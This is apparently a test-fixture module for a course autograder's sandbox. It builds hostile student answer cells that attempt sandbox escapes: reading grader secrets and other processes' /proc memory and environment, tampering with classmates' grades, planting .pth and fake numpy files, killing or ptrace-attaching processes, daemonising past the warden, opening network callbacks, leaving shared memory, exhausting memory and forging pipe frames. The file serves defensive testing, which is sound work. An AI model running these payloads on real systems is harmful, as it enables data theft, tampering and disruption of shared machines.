"""Hostile answer cells: each tries one kind of attack on the grader, its machine or a
classmate, and then defines the correct `relu`.  An attack that gets nothing therefore
earns full marks; one that gets something either loses points on purpose (what it read
is put in `STOLEN`, and relu then returns garbage) or leaves evidence on this machine
that the tests look for (a file, a process, a connection, a changed classmate).

The tests tell the attacks where to aim through NN_INTRO_ATTACK_* variables (the sandbox
passes NN_INTRO_* through as test hooks): that makes them stronger, not weaker."""
from __future__ import annotations

from grader import samples as S

PRELUDE = '''
import os, sys, glob, json, socket, signal, subprocess, time, ctypes
ROOT = os.environ.get("NN_INTRO_ATTACK_ROOT", "/nonexistent")
TOKEN = os.environ.get("NN_INTRO_ATTACK_TOKEN", "0")
STOLEN = []
def _try(name, fn):
    try:
        if fn():
            STOLEN.append(name)
    except Exception:
        pass
def _others():
    me = os.getpid()
    return [int(p) for p in os.listdir("/proc") if p.isdigit() and int(p) != me]
'''

ATTACKS = {
    # 1. read what only the grader may read
    "read_secrets": '''
_try("solution by path", lambda: open(ROOT + "/source/nn_intro/03_activations.ipynb").read())
_try("git objects", lambda: os.listdir(ROOT + "/.git/objects"))
_try("samples", lambda: os.listdir(ROOT + "/samples"))
_try("course root", lambda: os.listdir(ROOT))
_try("classmate", lambda: os.listdir(ROOT + "/submitted"))
_try("grades", lambda: open(ROOT + "/grades.csv").read())
for pid in _others():
    _try(f"cwd of {pid}", lambda: "course.yaml" in os.listdir(f"/proc/{pid}/cwd"))
    _try(f"root of {pid}", lambda: len(os.listdir(f"/proc/{pid}/root/")) > 0 and os.path.exists(f"/proc/{pid}/root" + ROOT))
    _try(f"mem of {pid}", lambda: open(f"/proc/{pid}/mem", "rb").read(1) is not None)
    _try(f"environ of {pid}", lambda: b"NN_INTRO_ATTACK_ROOT" not in open(f"/proc/{pid}/environ", "rb").read() and open(f"/proc/{pid}/environ", "rb").read())
for pattern in [os.path.join(t, "*", "references.bin") for t in sys.path if t] + [
        "/*/references.bin", "/*/*/references.bin", "/*/*/*/references.bin",
        "/*/*/*/*/references.bin", "/*/*/*/*/*/references.bin", ROOT + "/**/references.bin"]:
    for path in glob.glob(pattern, recursive=True)[:5]:
        _try("references " + path, lambda: open(path, "rb").read(16))
''',
    # 2. change what others get
    "tamper": '''
def _write(path, text="pwned"):
    with open(path, "w") as f:
        f.write(text)
    return True
_try("classmate result", lambda: _write(ROOT + "/autograded/honest-a/nn_intro/grader_result.json", "{}"))
_try("classmate notebook", lambda: _write(ROOT + "/submitted/honest-a/nn_intro/03_activations.ipynb", "{}"))
_try("gradebook", lambda: _write(ROOT + "/gradebook.db"))
_try("numpy in the course root", lambda: _write(ROOT + "/numpy.py", "raise SystemExit('pwned')"))
for top in sys.path:
    if top.endswith("site-packages"):
        _try(".pth " + top, lambda: _write(os.path.join(top, "nn_attack_" + TOKEN + ".pth"), "import os"))
''',
    # 3. reach the grader or a classmate's processes
    "signals": '''
for pid in _others():
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        _try(f"signal {pid}", lambda: os.kill(pid, sig) is None and pid != 1)
libc = ctypes.CDLL(None, use_errno=True)
for pid in _others():
    _try(f"ptrace {pid}", lambda: libc.ptrace(16, pid, None, None) == 0)      # PTRACE_ATTACH
if os.fork() == 0:
    try:
        os.kill(-1, signal.SIGKILL)       # everything this uid may signal (us included)
    finally:
        os._exit(0)
time.sleep(0.2)
''',
    # 4. outlive the notebook
    "survive": '''
warden = os.getppid()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        signal.signal(signal.SIGTERM, signal.SIG_IGN)
        signal.signal(signal.SIGHUP, signal.SIG_IGN)
        try:
            os.kill(warden, signal.SIGKILL)     # stop our own warden, then outlive it
        except OSError:
            pass
        os.execv("/bin/sleep", ["sleep", TOKEN])
    os._exit(0)
time.sleep(0.1)
subprocess.Popen(["/bin/sleep", TOKEN], start_new_session=True)
''',
    # 5. the network: out, in, listening
    "network": '''
port = int(os.environ.get("NN_INTRO_ATTACK_PORT", "9"))
def _tcp():
    s = socket.create_connection(("127.0.0.1", port), timeout=1)
    s.sendall(b"pwned " + TOKEN.encode())
    return True
def _udp():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendto(b"pwned " + TOKEN.encode(), ("127.0.0.1", port))
    return True
def _listen():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.bind(("0.0.0.0", 0))
    s.listen()
    return True
def _scheduler():
    for pid in _others():
        for word in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0"):
            if word.startswith(b"tcp://"):
                host, p = word[6:].decode().rsplit(":", 1)
                socket.create_connection((host, int(p)), timeout=1)
                return True
_try("tcp", _tcp)
_try("udp", _udp)
_try("listen", _listen)
_try("scheduler", _scheduler)
_try("ipv6", lambda: socket.create_connection(("::1", port), timeout=1))
''',
    # 6. leave files and IPC for later students
    "leave_files": '''
for top in ("/tmp", "/dev/shm", "/var/tmp"):
    try:
        with open(f"{top}/nn-attack-{TOKEN}.py", "w") as f:
            f.write("PWNED = True")
    except OSError:
        pass
try:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.shmget(int(TOKEN.split(".")[1]) % 2**31, 4096, 0o1000 | 0o666)   # IPC_CREAT
except Exception:
    pass
''',
    # 6b. ... and read what an earlier student left
    "read_leftovers": '''
for top in ("/tmp", "/dev/shm", "/var/tmp"):
    _try("leftover " + top, lambda: any(n.startswith("nn-attack-") for n in os.listdir(top)))
_key = str(int(TOKEN.split(".")[1]) % 2**31)        # the segment leave_files made
_try("shm", lambda: any(line.split()[0] == _key for line in open("/proc/sysvipc/shm").read().splitlines()[1:]))
''',
    # 7. memory over the limit, spread over many processes
    "memory_total": '''
kids = []
for i in range(6):
    pid = os.fork()
    if pid == 0:
        block = bytearray(150 * 1024 * 1024)
        for j in range(0, len(block), 4096):
            block[j] = 1
        time.sleep(30)
        os._exit(0)
    kids.append(pid)
time.sleep(5)
''',
    # 8. a reply frame forged into the reply pipe
    "forged_frame": '''
import struct
def relu(z):
    for fd in range(3, 64):
        try:
            flags = open(f"/proc/self/fdinfo/{fd}").read()
            if "flags:\\t01" in flags or "flags:\\t02000001" in flags:   # write-only pipes
                if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:") and fd > 2:
                    body = b"NNW1" + struct.pack("<QQ", 40_000_000, 0) + b"[" + b"1," * 20_000_000
                    os.write(fd, struct.pack("<Q", len(body)) + body)
        except OSError:
            pass
    return 0
''',
}

# Attacks that must cost their author points (they break their own notebook) -- and
# nobody else any: every other attack gets nothing and so earns full marks.
SELF_HARMING = {"signals", "memory_total", "forged_frame"}


def answer(attack: str) -> str:
    """The relu answer cell of an attacker: the attack, then (unless the attack defines
    relu itself) the correct relu, which returns garbage if anything was stolen."""
    code = PRELUDE + ATTACKS[attack]
    if "def relu" not in ATTACKS[attack]:
        code += S.solution_code("03_activations", "relu") + '''
_relu = relu
def relu(z):
    if STOLEN:
        raise RuntimeError("stolen: " + ", ".join(STOLEN[:5]))
    return _relu(z)
'''
    return code


def write_class(submitted, attacks=tuple(ATTACKS)) -> list[str]:
    """submitted/<student>/nn_intro for two honest students and one per attack."""
    students = ["honest-a", "honest-b"]
    for name in ("honest-a", "honest-b"):
        S.write_submission(submitted / name / "nn_intro")
    for attack in attacks:
        S.write_submission(submitted / f"attack-{attack}" / "nn_intro",
                           {"03_activations": {"relu": answer(attack)}})
        students.append(f"attack-{attack}")
    return students
